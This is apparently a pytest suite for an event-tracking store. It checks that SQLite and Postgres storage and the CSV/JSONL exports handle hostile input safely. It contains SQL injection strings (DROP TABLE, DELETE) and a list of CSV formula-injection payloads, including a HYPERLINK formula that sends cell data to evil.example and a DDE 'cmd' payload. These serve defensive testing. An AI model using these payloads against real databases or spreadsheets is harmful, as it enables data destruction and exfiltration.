"""Hostile values in stored events: SQL stores, stats keys, CSV and JSON lines exports."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from postgres_support import PostgresServer
from store_support import event, stored_form
from trackcodec.cli import main
from trackcodec.event import TrackingEvent
from trackcodec.stores import EventStore, PostgresEventStore, SQLiteEventStore
from trackcodec.stores.cli import write_csv, write_jsonl

T0 = 1_767_225_600.0  # 2026-01-01T00:00:00Z

HOSTILE_KEYS = [
    "a'b",
    "x') OR 1=1 --",
    "' || (SELECT version()) || '",
    "$",
    "",
    "a.b",
    "a[0]",
    "a]b",
    "#",
    "\\",
    "a\\b\\",
    "\x00",
    "\n\r\t",
    "\u2028",
    "\U0001f600",
    "k" * 5000,
]


def _deep(levels: int) -> Any:
    value: Any = "deep"
    for _ in range(levels):
        value = [value]
    return value


HOSTILE_VALUES: list[Any] = [
    "x'); DROP TABLE trackcodec_events; --",
    "\x00",
    "a\x00b",
    '"quoted"',
    "\\",
    "\u2028\u2029\x85",
    "x" * 200_000,
    _deep(40),
    {"nested": {"": {"'": None}}},
]


@pytest.fixture(params=["sqlite", "postgres"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[EventStore]:
    opened: EventStore
    if request.param == "sqlite":
        opened = SQLiteEventStore(tmp_path / "events.sqlite3")
    else:
        server: PostgresServer = request.getfixturevalue("postgres_server")
        opened = PostgresEventStore(server.fresh_dsn())
    yield opened
    opened.close()


def test_hostile_metadata_is_stored_and_read_back(store: EventStore) -> None:
    postgres = isinstance(store, PostgresEventStore)
    metadata = {key: HOSTILE_VALUES[i % len(HOSTILE_VALUES)] for i, key in enumerate(HOSTILE_KEYS)}
    sent = event(metadata=metadata, user_agent="'; DELETE FROM x; --\x00", timestamp=T0)
    store.emit([sent])
    [back] = list(store.events())
    assert back.metadata == stored_form(metadata, postgres=postgres)
    assert store.count() == 1


@pytest.mark.parametrize("key", HOSTILE_KEYS)
def test_stats_group_and_unique_keys_are_values_not_sql(store: EventStore, key: str) -> None:
    store.emit(
        [
            event(metadata={key: "g1", "other": 1}, timestamp=T0),
            event(metadata={key: "g1"}, timestamp=T0 + 1),
            event(metadata={key: "g2"}, timestamp=T0 + 2, kind="click", tracked_url="https://a/"),
            event(metadata={"unrelated": key}, timestamp=T0 + 3),
        ]
    )
    stats = store.stats(group_by_metadata_key=key, unique_by_metadata_key=key)
    groups = {row.group: row.counts for row in stats.rows}
    assert set(groups) == {"g1", "g2", None}
    assert groups["g1"].opens == 2
    assert groups["g1"].unique_opens == 1  # one recipient, by the key's value
    assert groups["g2"].clicks == 1
    assert groups[None].opens == 1
    assert store.count() == 4  # nothing dropped or changed by the key


def test_sqlite_refuses_keys_it_cannot_address(tmp_path: Path) -> None:
    with SQLiteEventStore(tmp_path / "events.sqlite3") as store:
        for key in ['a"b', "\ud800"]:
            with pytest.raises(ValueError, match="metadata key"):
                store.stats(group_by_metadata_key=key)


def test_huge_metadata_is_stored(store: EventStore) -> None:
    big = {f"k{i}": "v" * 1000 for i in range(2000)}  # ~2 MB of JSON
    store.emit([event(metadata=big, timestamp=T0)])
    [back] = list(store.events())
    assert back.metadata == big


# -- exports ------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
]


def _formula_events() -> list[TrackingEvent]:
    return [
        event(timestamp=T0 + i, user_agent=formula, machine_reason=None)
        for i, formula in enumerate(FORMULAS)
    ] + [event(timestamp=T0 + 99, user_agent="Mozilla/5.0 (=safe inside)")]


def test_csv_escapes_spreadsheet_formulas_by_default() -> None:
    out = io.StringIO()
    assert write_csv(_formula_events(), out) == len(FORMULAS) + 1
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    agents = [row["user_agent"] for row in rows]
    assert agents[:-1] == ["'" + f for f in FORMULAS]
    assert agents[-1] == "Mozilla/5.0 (=safe inside)"
    for row in rows:  # nothing else changed: metadata stays JSON, numbers stay numbers
        assert json.loads(row["metadata"]) == {}
        float(row["timestamp"])


def test_csv_formula_escaping_can_be_turned_off() -> None:
    out = io.StringIO()
    write_csv(_formula_events(), out, escape_formulas=False)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["user_agent"] for row in rows][:-1] == FORMULAS


def test_export_command_escapes_formulas(tmp_path: Path) -> None:
    path = tmp_path / "events.sqlite3"
    with SQLiteEventStore(path) as store:
        store.emit(_formula_events())
    base = ["events", "export", "--database", str(path), "--format", "csv"]
    escaped = CliRunner().invoke(main, base)
    assert escaped.exit_code == 0, escaped.output
    agents = [row["user_agent"] for row in csv.DictReader(io.StringIO(escaped.stdout))]
    assert all(not a.startswith(("=", "+", "-", "@", "\t", "\r")) for a in agents)
    raw = CliRunner().invoke(main, [*base, "--no-escape-formulas"])
    agents = [row["user_agent"] for row in csv.DictReader(io.StringIO(raw.stdout))]
    assert agents[:-1] == FORMULAS


def test_jsonl_is_one_event_per_line_for_every_line_splitter() -> None:
    events = [
        event(timestamp=T0, metadata={"a": "\u2028", "b": "\u2029\x85", "c": "\x00\n\r\x0b\x1c"}),
        event(timestamp=T0 + 1, user_agent="x\u2028y\x85z"),
    ]
    out = io.StringIO()
    write_jsonl(events, out)
    text = out.getvalue()
    assert len(text.splitlines()) == 2  # str.splitlines also splits on U+2028, U+0085...
    assert [TrackingEvent.model_validate_json(line) for line in text.splitlines()] == events
    assert [json.loads(line)["metadata"] for line in text.split("\n")[:2]] == [
        events[0].metadata,
        {},
    ]


def test_csv_rows_survive_line_breaks_inside_fields() -> None:
    agents = ["a\rb", "a\nb", "a\r\nb", "\r", 'q"\r']
    events = [event(timestamp=T0 + i, user_agent=a) for i, a in enumerate(agents)]
    out = io.StringIO()
    write_csv(events, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [row["user_agent"] for row in rows] == ["a\rb", "a\nb", "a\r\nb", "'\r", 'q"\r']
